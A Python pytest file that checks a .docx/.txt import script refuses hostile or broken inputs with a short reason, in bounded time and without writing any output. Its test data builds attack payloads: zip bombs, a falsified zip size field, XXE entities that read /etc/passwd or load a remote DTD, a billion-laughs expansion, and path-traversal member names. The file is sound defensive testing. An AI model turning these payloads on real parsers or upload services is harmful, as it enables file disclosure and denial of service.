"""What is not imported: a clear message with the reason, bounded time, nothing written."""

from __future__ import annotations

import io
import random
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from scripts.import_example import main

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def package(document: bytes | str, *others: tuple[str, bytes | str], types: str = TYPES) -> bytes:
    """A .docx with this text part and these other members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", document)
        for name, content in others:
            archive.writestr(name, content)
    return file.getvalue()


def text(*paragraphs: str) -> str:
    body = "".join(f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>" for paragraph in paragraphs)
    return f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'


def entity(declaration: str) -> str:
    return text("&x;").replace("<w:document", f"<!DOCTYPE d [{declaration}]><w:document", 1)


def many_members() -> bytes:
    return package(text("一、问题"), *((f"word/media/{n}.txt", b"x") for n in range(2_100)))


def lying_size() -> bytes:
    """A package whose directory says that the text part is small."""
    raw = bytearray(package(b"<a>" + b" " * 3_000_000 + b"</a>"))
    at = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"word/document.xml"))
    raw[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(raw)


LAUGHS = "".join(f'<!ENTITY {"x" if n == 9 else f"a{n}"} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip-bomb.docx": (lambda: package(b"<a>" + b"0" * 60_000_000 + b"</a>"), "炸弹"),
    "media-bomb.docx": (lambda: package(text("一、问题"), ("word/media/a.bmp", b"\0" * 80_000_000)), "炸弹"),
    "lying-size.docx": (lying_size, "Word文件"),
    "many-members.docx": (many_members, "2102个文件"),
    "macro.docx": (lambda: package(text("一、问题"), ("word/vbaProject.bin", b"\xd0\xcf")), "宏"),
    "macro-type.docx": (
        lambda: package(text("一、问题"), types=TYPES.replace("<Types", "<!-- macroEnabled --><Types")),
        "宏",
    ),
    "entity.docx": (lambda: package(entity('<!ENTITY x SYSTEM "file:///etc/passwd">')), "实体"),
    "remote-entity.docx": (lambda: package(entity('<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;')), "实体"),
    "laughs.docx": (lambda: package(entity(LAUGHS)), "实体"),
    "entity-utf16.docx": (
        lambda: package(entity('<!ENTITY x "y">').replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")),
        "实体",
    ),
    "absolute.docx": (lambda: package(text("一、问题"), ("/etc/cron.d/x", b"x")), "路径"),
    "climbing.docx": (lambda: package(text("一、问题"), ("word/../../x", b"x")), "路径"),
    "drive.docx": (lambda: package(text("一、问题"), ("C:\\x", b"x")), "路径"),
    "long.docx": (lambda: package(text(*["一、问题"] * 10_000)), "5000个段落"),
    "deep.docx": (lambda: package(f"<w:document {W}>" + "<w:p>" * 5_000 + "</w:p>" * 5_000 + "</w:document>"), "坏了"),
    "no-text.docx": (lambda: package(text("", " ")), "没有文字"),
    "no-body.docx": (lambda: package(f"<w:document {W}/>"), "没有正文"),
    "other-zip.docx": (lambda: package("x").replace(b"word/document.xml", b"word/documenx.xml"), "没有Word正文"),
    "cut.docx": (lambda: package(text("一、问题" * 400))[:-300], ".docx"),
    "damaged.docx": (lambda: package(random.Random(1).randbytes(3_000)), "坏了"),
    "empty.docx": (lambda: b"", "空的"),
    "renamed-pdf.docx": (lambda: b"%PDF-1.7\n", "PDF"),
    "old-word.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "旧版Word"),
    "text.docx": (lambda: "一、存在的问题".encode(), ".docx"),
    "empty.txt": (lambda: b"", "空的"),
    "blank.txt": (lambda: b"\n \r\n\t\n", "没有文字"),
    "renamed-pdf.txt": (lambda: b"%PDF-1.7\n%\xe2\xe3", "PDF"),
    "renamed-word.txt": (lambda: package(text("一、问题")), "改了文件名"),
    "rich-text.txt": (lambda: b"{\\rtf1\\ansi x}", "RTF"),
    "noise.txt": (lambda: random.Random(2).randbytes(5_000), "编码"),
    "noise.md": (lambda: random.Random(3).randbytes(100_000), "编码"),
    "zeros.txt": (lambda: b"\0" * 10_000, "编码"),
    "half-utf16.txt": (lambda: "一、问题\n".encode("utf-16")[:-1], "编码"),
    "huge.txt": (lambda: "存在的问题。\n".encode() * 1_000_000, "兆"),
    "too-long.txt": (lambda: "问题。\n".encode() * 6_000, "6001段"),
    "one-line.txt": (lambda: ("问" * 30_000).encode(), "分段"),
    "only-advertisement.txt": (lambda: "加微信：mochi_2020\n扫码关注公众号\n".encode(), "没有正文"),
    "picture.png": (lambda: b"\x89PNG", "不认识"),
    "sheet.xlsx": (lambda: package(text("x")), "不认识"),
}


@pytest.mark.parametrize("name", BAD)
def test_it_is_refused(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    make, reason = BAD[name]
    source = tmp_path / name
    source.write_bytes(make())
    started = time.monotonic()
    code = main([str(source), "--out", str(tmp_path / "page.md"), "--report", str(tmp_path / "report.json")])
    error = capsys.readouterr().err
    assert code == 1 and reason in error, error
    assert "Traceback" not in error and len(error) < 300
    assert sorted(path.name for path in tmp_path.iterdir()) == [name]
    assert time.monotonic() - started < 20  # far below on a machine that does nothing else


def test_a_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "材料.txt"
    folder.mkdir()
    assert main([str(folder), "--out", str(tmp_path / "page.md")]) == 1
    assert "文件夹" in capsys.readouterr().err and not (tmp_path / "page.md").exists()


@pytest.mark.parametrize("size", [1_000, 4_000])
def test_long_but_allowed(tmp_path: Path, size: int) -> None:
    """A Word file below the limits, with a table of a thousand cells, goes through."""
    source = tmp_path / "long.docx"
    table = "<w:tbl>" + "<w:tr>" + "<w:tc><w:p/></w:tc>" * 20 + "</w:tr>"
    cells = "".join(
        "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{r}-{c}</w:t></w:r></w:p></w:tc>" for c in range(20)) + "</w:tr>"
        for r in range(40)
    )
    body = text(*["班子7月到村里走访。"] * size).replace("</w:body>", f"{table}{cells}</w:tbl></w:body>")
    source.write_bytes(package(body))
    assert main([str(source), "--out", str(tmp_path / "page.md")]) == 0
    assert "| 39-0 |" in (tmp_path / "page.md").read_text("utf-8")


def test_nothing_is_written_when_the_report_cannot_be(tmp_path: Path) -> None:
    source = tmp_path / "x.docx"
    word = docx.Document()
    word.add_paragraph("一、存在的问题")
    word.save(str(source))
    report = tmp_path / "report.json"
    report.mkdir()
    assert main([str(source), "--out", str(tmp_path / "page.md"), "--report", str(report)]) == 2
    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.json", "x.docx"]
